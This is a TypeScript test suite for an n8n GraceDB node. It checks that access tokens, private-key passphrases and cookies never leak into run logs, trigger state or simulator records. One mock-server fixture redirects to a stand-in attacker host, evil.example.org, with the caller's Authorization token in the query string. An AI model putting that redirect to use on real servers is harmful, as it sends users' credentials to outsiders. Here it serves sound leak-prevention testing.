import { generateKeyPairSync } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { inspect } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Credentials, type Engine, graceDbNode, loadEngine } from '../support/engine';
import { rawServer } from '../support/rawServer';
import { useSimulator } from '../support/simulator';

const simulator = useSimulator({ https: true });
let engine: Engine;
beforeAll(async () => {
	engine = await loadEngine();
});

/** Everything that n8n would write down of a run, and everything that a log could show of it. */
function traces(value: unknown): string {
	return (
		JSON.stringify(value) + inspect(value, { depth: 30, showHidden: true, maxStringLength: null })
	);
}

/** A server that repeats all that it was sent, with each status and shape. */
const echoes: [string, (request: IncomingMessage, response: ServerResponse) => unknown][] = [
	[
		'a refusal',
		(request, response) => response.writeHead(403).end(JSON.stringify({ detail: request.headers })),
	],
	[
		'a text',
		(request, response) => response.writeHead(400).end(`you sent ${request.headers.authorization}`),
	],
	[
		'a page of an error',
		(request, response) =>
			response
				.writeHead(500, { 'content-type': 'text/html', 'set-cookie': 'sessionid=Plätzchen4711' })
				.end(`<html><h1>Error</h1><pre>${JSON.stringify(request.headers)}</pre></html>`),
	],
	[
		'half a JSON text',
		(request, response) =>
			response
				.writeHead(200, { 'content-type': 'application/json' })
				.end(`{"a": "${request.headers.authorization}`),
	],
	[
		'a page instead of data',
		(request, response) =>
			response.writeHead(200).end(`<html><title>${request.headers.authorization}</title></html>`),
	],
	[
		'a redirect',
		(request, response) =>
			response
				.writeHead(302, {
					location: `https://evil.example.org/?t=${request.headers.authorization}`,
				})
				.end(),
	],
];

describe('no secret is left behind', () => {
	it.each(echoes)('when the server repeats the token in %s', async (_what, answer) => {
		const token = simulator.token('scientist');
		const server = await rawServer((request, response) => {
			request.resume();
			// The server knows the user, so that the token goes on to the request that fails.
			if (request.url?.includes('user-info')) return response.end('{"username":"scientist"}');
			return answer(request, response);
		});
		try {
			const credentials: Credentials = {
				graceDbSciTokenApi: {
					server: 'custom',
					customServer: server.url,
					access: 'readWrite',
					token,
				},
			};
			for (const onError of ['stopWorkflow', 'continueRegularOutput'] as const) {
				const parameters = {
					authentication: 'sciToken',
					resource: 'log',
					operation: 'create',
					objectId: 'S240716b',
					message: 'x',
				};
				const node = graceDbNode('GraceDB', parameters, { credentials, onError });
				const run = await engine.runWorkflow([node], {}, { credentials });
				expect(server.requests).toContain('POST /api/superevents/S240716b/logs/');
				for (const part of token.split('.')) expect(traces(run)).not.toContain(part);
				expect(traces(run)).not.toContain('Plätzchen4711');
			}
		} finally {
			await server.close();
		}
	});

	it('when a key or a pass phrase is wrong', async () => {
		const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
		const key = privateKey
			.export({ type: 'pkcs8', format: 'pem', cipher: 'aes-256-cbc', passphrase: 'Losung-4711' })
			.toString();
		const { graceDbX509Api = {} } = simulator.x509();
		for (const passphrase of ['', 'falsche-Losung', 'Losung-4711']) {
			const credentials = { graceDbX509Api: { ...graceDbX509Api, privateKey: key, passphrase } };
			const node = graceDbNode('GraceDB', { authentication: 'x509' }, { credentials });
			const run = await engine.runWorkflow([node], {}, { credentials });
			expect(run.data.resultData.error?.message).toMatch(/private key|belong together/);
			expect(traces(run)).not.toContain('Losung-4711');
			expect(traces(run)).not.toContain(key.split('\n')[3]);
		}
	});

	it('in the state of the trigger', async () => {
		const trigger = engine.trigger(
			{ authentication: 'sciToken' },
			{ credentials: simulator.sciToken('scientist') },
		);
		await trigger.poll();
		for (const part of simulator.token('scientist').split('.')) {
			expect(JSON.stringify(trigger.saved())).not.toContain(part);
		}
	});

	it('in the ready-file or the request list of the simulator', async () => {
		const token = simulator.token('scientist');
		const keyFile = readFileSync(simulator.ready().x509?.keyFile ?? '', 'utf8');
		const told = traces(simulator.ready()) + traces(await simulator.requests());
		for (const part of token.split('.').slice(1)) expect(told).not.toContain(part);
		expect(told).not.toContain(keyFile.split('\n')[1]);
	});
});
